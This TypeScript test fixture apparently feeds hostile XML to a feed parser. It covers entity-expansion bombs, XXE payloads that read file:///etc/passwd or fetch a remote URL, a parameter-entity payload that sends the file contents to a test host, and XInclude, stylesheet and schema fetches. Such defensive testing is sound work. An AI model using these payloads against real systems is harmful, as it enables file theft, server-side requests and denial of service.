import { light, many, oneItem, type HostileDocument } from './hostile-document.ts';

const USES = '<description>&x;</description>';
const laughs = (levels: number, name: (level: number) => string) => many(levels, (level) => `<!ENTITY ${name(level + 1)} "${`&${name(level)};`.repeat(10)}">`);

/** Entities that swell, and entities that would have something read or asked for. */
export const ENTITY_DOCUMENTS: readonly HostileDocument[] = [
  light('a billion laughs', 1, () => oneItem('<description>&l20;</description>', `<!DOCTYPE rss [<!ENTITY l0 "lol">${laughs(20, (level) => `l${level}`)}]>`), 'lollol'),
  light('entities that name each other in a circle', 1, () => oneItem('<description>&a;</description>', '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')),
  light('one long entity, used often', 1, () => oneItem(`<description>${'&w;'.repeat(300_000)}</description>`, `<!DOCTYPE rss [<!ENTITY w "${'w'.repeat(40_000)}">]>`), 'wwww'),
  light('one short entity, used a million times', 1, () => oneItem(`<description>${'&w;'.repeat(1_000_000)}</description>`, `<!DOCTYPE rss [<!ENTITY w "${'w'.repeat(400)}">]>`)),
  light('40,000 declared entities', [1, 'not-a-feed'], () => oneItem(USES, `<!DOCTYPE rss [${many(40_000, (at) => `<!ENTITY e${at} "x">`)}]>`)),
  light('an external entity of the network', 1, (origin) => oneItem(USES, `<!DOCTYPE rss [<!ENTITY x SYSTEM "${origin}/secret">]>`), 'secret text'),
  light('an external entity of the disk', 1, () => oneItem(USES, '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'root:'),
  light('a public external entity', 1, (origin) => oneItem(USES, `<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//EN" "${origin}/secret">]>`), 'secret text'),
  light('a parameter entity of the network', 1, (origin) => oneItem(USES, `<!DOCTYPE rss [<!ENTITY % p SYSTEM "${origin}/secret"> %p; <!ENTITY x "&#37;p;">]>`), 'secret text'),
  light('a parameter entity that would send a file away', 1, (origin) => oneItem(USES, `<!DOCTYPE rss [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % w "<!ENTITY &#37; s SYSTEM '${origin}/secret?%f;'>">%w;%s;]>`), 'root:'),
  light('an external document type', 1, (origin) => oneItem(USES, `<!DOCTYPE rss SYSTEM "${origin}/secret">`), 'secret text'),
  light('an external document type by a public name', 1, (origin) => oneItem(USES, `<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "${origin}/secret">`), 'secret text'),
  light('an inclusion', 1, (origin) => oneItem(`<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${origin}/secret" parse="text"/></description>`), 'secret text'),
  light('a stylesheet', 1, (origin) => `<?xml-stylesheet type="text/xsl" href="${origin}/secret"?>${oneItem('')}`, 'secret text'),
  light('a schema and a base elsewhere', 1, (origin) => oneItem(`<description xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${origin}/secret" xml:base="${origin}/secret">x</description>`), 'secret text'),
  light('references named like the properties of objects', 1, () => oneItem('<description>&constructor; &toString; &__proto__; &hasOwnProperty;</description>'), 'native code'),
];
